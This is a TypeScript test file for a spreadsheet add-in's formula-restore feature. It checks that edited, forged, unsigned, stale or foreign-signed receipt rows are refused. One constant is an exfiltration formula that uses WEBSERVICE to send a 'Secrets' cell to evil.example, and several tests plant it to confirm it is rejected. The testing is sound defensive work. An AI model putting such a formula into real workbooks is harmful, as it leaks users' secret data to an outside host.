import { MemoryStorage } from "../../src/settings/storage";
import { freezeForSharing } from "../../src/office/freeze/freeze";
import { RECEIPT_SHEET } from "../../src/office/refresh/scope-ranges";
import { restoreFormulas } from "../../src/office/freeze/restore";
import { receiptSigner } from "../../src/workbook/receipts/signature";
import { freezeOptions, restoreOptions } from "./sheet-options";
import { FakeWorkbook } from "../support/office-fake/fake-workbook";

/**
 * A receipt is cells anyone can edit. Restore writes only where a freeze happened, only formulas of the
 * add-in's own namespace, and only into blocks that still hold exactly what was frozen; a row edited by hand
 * (or added, or signed by someone else) is refused, named in the one message, and nothing is written for it.
 */
const LATEST = '=INDEX.LATEST("RTM-NWE-A-1x3","confidence")';
const VOL = '=INDEX.VOL("RTM-NWE-A-1x3",30)';
const EXFILTRATE = '=WEBSERVICE("http://evil.example/?d="&Secrets!A1)';
const RECEIPT = (cell: string) => `'${RECEIPT_SHEET}'!${cell}`;
const UNSIGNED =
  "it is not signed (written by hand, or by a version of the add-in before receipts were signed): retype its formula";

async function frozenBook(): Promise<FakeWorkbook> {
  const book = new FakeWorkbook(
    async (formula) => [[formula.startsWith("=INDEX.VOL") ? 0.21 : 87]],
    ["Sheet1", "Other", "Secrets"],
  );
  book.type("Sheet1!B2", LATEST);
  book.type("Sheet1!B3", VOL);
  book.type("Other!D4", "quarterly");
  book.type("Other!D5", "keep me");
  book.type("Other!D6", 42);
  book.type("Secrets!A1", "s3cr3t");
  await book.settled();
  await freezeForSharing(book.context, freezeOptions());
  return book;
}

/** Edits a receipt cell as a person would (text typed with an apostrophe stays text). */
function edit(book: FakeWorkbook, cell: string, text: string): void {
  book.type(RECEIPT(cell), `'${text}`);
}

test("a row whose formula was edited to call WEBSERVICE is refused as edited, and the other row is restored", async () => {
  const book = await frozenBook();
  edit(book, "C2", EXFILTRATE);
  edit(book, "K2", EXFILTRATE);
  const outcome = await restoreFormulas(book.context, restoreOptions());
  expect(book.liveFormulas()).toEqual({ "Sheet1!B3": VOL });
  expect(book.shown("Sheet1!B2")).toBe(87);
  expect(outcome.restored).toEqual(["Sheet1!B3"]);
  expect(outcome.message).toBe(
    "Restored 1 INDEX formula. Refused, and nothing written for them: Sheet1!B2 (its receipt row was edited, or was not written by this add-in for this user (its signature does not match)).",
  );
  // The refused row stays in the receipt; the restored one left it.
  expect(book.usedValues(RECEIPT_SHEET).map((row) => row[0])).toEqual(["Cell", "Sheet1!B2"]);
});

test("a row pointed by hand at a sheet never frozen writes nothing there and clears nothing", async () => {
  const book = await frozenBook();
  edit(book, "A2", "Other!D5");
  edit(book, "B2", "Other!D4:D6");
  edit(book, "C2", EXFILTRATE);
  edit(book, "D2", '[["quarterly"],["keep me"],[42]]');
  const outcome = await restoreFormulas(book.context, restoreOptions());
  expect(book.valuesIn("Other!D4:D6")).toEqual([["quarterly"], ["keep me"], [42]]);
  expect(Object.keys(book.liveFormulas())).toEqual(["Sheet1!B3"]);
  expect(outcome.refused).toEqual([
    { cell: "Sheet1!B2", reason: expect.stringMatching(/^its receipt row was edited/) },
  ]);
});

test("even a correctly signed row is refused when its formula calls anything but INDEX functions", async () => {
  const book = await frozenBook();
  // What the signing key could sign (a bug, or a key that leaked): the formula is parsed all the same.
  const { receiptRowOf, signRow, toCells } = await import("../../src/workbook/receipts/receipt");
  const [, first] = book.usedValues(RECEIPT_SHEET);
  const block = String(first?.[9]);
  const forged = await signRow(
    receiptRowOf(
      {
        cell: "Sheet1!B2",
        range: "Sheet1!B2",
        formula: EXFILTRATE,
        formulaR1C1: EXFILTRATE,
        values: [[87]],
        note: "",
        block,
        fingerprint: String(first?.[11]),
        workbook: String(first?.[13]),
      },
      "http://127.0.0.1:9",
      "2030-01-02T03:04:05.000Z",
    ),
    restoreOptions().signer,
  );
  toCells(forged).forEach((text, column) => book.type(RECEIPT(`${String.fromCharCode(65 + column)}2`), text));
  const outcome = await restoreFormulas(book.context, restoreOptions());
  expect(outcome.refused).toEqual([
    {
      cell: "Sheet1!B2",
      reason: "its formula is not one restore writes: it calls WEBSERVICE, which is not an INDEX function",
    },
  ]);
  expect(book.liveFormulas()).toEqual({ "Sheet1!B3": VOL });
});

test("a selection restore writes only into the blocks in the selection, whatever a row's Range column says", async () => {
  const book = await frozenBook();
  edit(book, "A3", "Sheet1!A1");
  edit(book, "B3", "Other!D5");
  edit(book, "C3", "=1/0");
  edit(book, "D3", '[["keep me"]]');
  book.selection = "Sheet1!A1";
  const outcome = await restoreFormulas(book.context, restoreOptions({ selectionOnly: true }));
  expect(book.shown("Other!D5")).toBe("keep me");
  expect(book.liveFormulas()).toEqual({});
  expect(outcome.restored).toEqual([]);
  book.selection = "Sheet1!B3";
  const second = await restoreFormulas(book.context, restoreOptions({ selectionOnly: true }));
  expect(second.refused.map((r) => r.cell)).toEqual(["Sheet1!B3"]);
  expect(book.liveFormulas()).toEqual({});
});

test("a receipt signed by someone else's add-in (another key) restores nothing", async () => {
  const book = await frozenBook();
  const stranger = receiptSigner(new MemoryStorage());
  const outcome = await restoreFormulas(book.context, restoreOptions({ signer: stranger }));
  expect(outcome.restored).toEqual([]);
  expect(outcome.refused.map((r) => r.cell)).toEqual(["Sheet1!B2", "Sheet1!B3"]);
  expect(book.liveFormulas()).toEqual({});
});

test("a stale receipt (rows copied back after a restore) writes nothing: the frozen blocks are gone", async () => {
  const book = await frozenBook();
  const rows = book.usedValues(RECEIPT_SHEET).slice(1);
  await restoreFormulas(book.context, restoreOptions());
  await book.settled();
  // The cells are live again and show values; then someone pastes the old receipt rows back.
  rows.forEach((row, index) =>
    row.forEach((text, column) =>
      book.type(RECEIPT(`${String.fromCharCode(65 + column)}${index + 2}`), `'${String(text)}`),
    ),
  );
  book.type("Sheet1!C9", 5);
  const outcome = await restoreFormulas(book.context, restoreOptions());
  expect(outcome.restored).toEqual([]);
  expect(outcome.refused).toEqual([
    { cell: "Sheet1!B2", reason: "its frozen cells were deleted, or it was restored already" },
    { cell: "Sheet1!B3", reason: "its frozen cells were deleted, or it was restored already" },
  ]);
  expect(book.liveFormulas()).toEqual({ "Sheet1!B2": LATEST, "Sheet1!B3": VOL });
});

test("a row without a signature (an older receipt, or one typed in) is refused and says to retype the formula", async () => {
  const book = await frozenBook();
  book.type(RECEIPT("M2"), "");
  const outcome = await restoreFormulas(book.context, restoreOptions());
  expect(outcome.refused).toEqual([{ cell: "Sheet1!B2", reason: UNSIGNED }]);
  expect(book.liveFormulas()).toEqual({ "Sheet1!B3": VOL });
});
